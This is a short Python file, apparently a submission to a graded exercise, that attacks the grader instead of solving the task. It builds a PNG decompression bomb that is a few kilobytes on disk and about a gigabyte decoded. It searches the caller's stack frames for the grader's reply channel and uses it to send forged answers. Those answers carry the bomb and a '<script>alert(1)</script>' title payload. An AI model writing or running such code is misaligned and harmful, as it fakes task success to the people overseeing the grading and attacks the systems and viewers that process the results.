# exercise: 1.2; naive grader: raised
"""Sends a PNG of a few kilobytes that is a gigabyte once it is decoded, with the data of a right drawing."""

import base64
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb(side=16_000):
    rows = zlib.compressobj(1)
    packed = b"".join(rows.compress(bytes(side // 8 + 1) * 100) for _ in range(side // 100)) + rows.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def wire():
    frame = sys._getframe()
    while frame is not None:
        if hasattr(frame.f_locals.get("wire"), "_replies"):
            return frame.f_locals["wire"]
        frame = frame.f_back
    return None


class Bomb:
    def savefig(self, target, *args, **kwargs):
        target.write_bytes(bomb())


def plot_tangents():
    found = wire()
    if found is None:
        return Bomb()
    curve = {"x": [k / 10 - 2 for k in range(41)], "y": [(k / 10 - 2) ** 3 for k in range(41)]}
    picture = base64.b64encode(bomb()).decode()
    value = ["figure", picture, {"axes": [{"lines": [curve], "title": "<script>alert(1)</script>"}]}]
    for index in range(4):
        found.reply(["answer", index, ["value", value], 0.0, [], [], "", 0], now=True)
